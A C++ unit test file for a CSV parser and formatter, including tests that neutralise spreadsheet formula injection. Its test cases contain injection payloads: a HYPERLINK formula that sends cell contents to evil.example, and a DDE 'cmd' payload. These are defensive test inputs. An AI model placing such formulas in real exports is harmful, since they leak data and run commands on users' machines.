#include "core/csv.h"

#include <string>
#include <vector>

#include "gmock/gmock.h"
#include "gtest/gtest.h"

namespace zwgk {
namespace {

using ::testing::HasSubstr;
using Rows = std::vector<std::vector<std::string>>;
TEST(CsvTest, Parses) {
  struct Case {
    std::string csv;
    Rows rows;
  };
  const Case cases[] = {
      {"a,b\r\nc,d\r\n", {{"a", "b"}, {"c", "d"}}},
      {"\xEF\xBB\xBF"
       "a,b\nc,d",
       {{"a", "b"}, {"c", "d"}}},
      {"\"x,y\",\"say \"\"hi\"\"\",\"line\r\nbreak\"\r\n",
       {{"x,y", "say \"hi\"", "line\r\nbreak"}}},
      {"a,,\"\"\r\n", {{"a", "", ""}}},
      {"a\"b,c", {{"a\"b", "c"}}},
      {"", {}},
  };
  for (const Case& c : cases) {
    absl::StatusOr<Rows> rows = ParseCsv(c.csv);
    ASSERT_TRUE(rows.ok()) << c.csv;
    EXPECT_EQ(*rows, c.rows) << c.csv;
  }
  EXPECT_THAT(std::string(ParseCsv("a\n\"b,c\n").status().message()),
              HasSubstr("CSV 第2行：引号没有闭合"));
  EXPECT_THAT(std::string(ParseCsv("\"a\"b,c").status().message()),
              HasSubstr("引号后面只能是逗号或换行"));
  EXPECT_EQ(FormatCsvRecord({"a", "b,c", "d\"e", "f\ng", ""}),
            "a,\"b,c\",\"d\"\"e\",\"f\ng\",\r\n");
}

// Issue 12, finding 8 (CSV formula injection). OWASP's rule: a cell whose
// first character is = + - @, a tab, a carriage return (or NUL, ASVS
// 1.2.10) goes out behind a single quote, and quoted. Numbers get it too
// ("-5" → "'-5"): a spreadsheet cannot tell a harmless "-5" from "-5+cmd|…".
TEST(CsvTest, FormulaLikeCellsAreNeutralized) {
  struct Case {
    std::string cell;
    std::string record;  // FormatCsvRecord({cell}) without the CRLF
  };
  const Case cases[] = {
      {"=1+1", "\"'=1+1\""},
      {"=HYPERLINK(\"http://evil.example/?\"&A1,\"点此\")",
       "\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"点此\"\")\""},
      {"+86 371 1234", "\"'+86 371 1234\""},
      {"-5", "\"'-5\""},
      {"-2+3+cmd|' /C calc'!A0", "\"'-2+3+cmd|' /C calc'!A0\""},
      {"@SUM(A1:A9)", "\"'@SUM(A1:A9)\""},
      {"\t=1+1", "\"'\t=1+1\""},
      {"\r=1+1", "\"'\r=1+1\""},
      {std::string("\0=1", 3), std::string("\"'\0=1\"", 6)},
      // A quote we add is taken off again on import; so that a cell which
      // itself starts with quotes before a formula character comes back
      // unchanged, it gets one more.
      {"'=1+1", "\"''=1+1\""},
      // Harmless: left as they are.
      {"", ""},
      {"a=b", "a=b"},
      {"5-3", "5-3"},
      {"'quoted", "'quoted"},
      {" =1+1", " =1+1"},
      {"＝全角等号", "＝全角等号"},
      {"自收到申请之日起20个工作日内", "自收到申请之日起20个工作日内"},
  };
  for (const Case& c : cases) {
    EXPECT_EQ(FormatCsvRecord({c.cell}), c.record + "\r\n") << c.cell;
    absl::StatusOr<Rows> back = ParseCsv(FormatCsvRecord({"x", c.cell}));
    ASSERT_TRUE(back.ok()) << c.cell;
    ASSERT_EQ(back->size(), 1u) << c.cell;
    ASSERT_EQ(back->at(0).size(), 2u) << c.cell;
    EXPECT_EQ(back->at(0)[1],
              c.record.empty() || c.record[0] != '"' ? c.cell : "'" + c.cell)
        << c.cell;
  }
}

TEST(CsvTest, UnguardTakesOffOnlyTheQuoteItAdded) {
  EXPECT_EQ(UnguardCsvFormula("'=1+1"), "=1+1");
  EXPECT_EQ(UnguardCsvFormula("''=1+1"), "'=1+1");
  EXPECT_EQ(UnguardCsvFormula("'quoted"), "'quoted");
  EXPECT_EQ(UnguardCsvFormula("-5"), "-5");
}

}  // namespace
}  // namespace zwgk
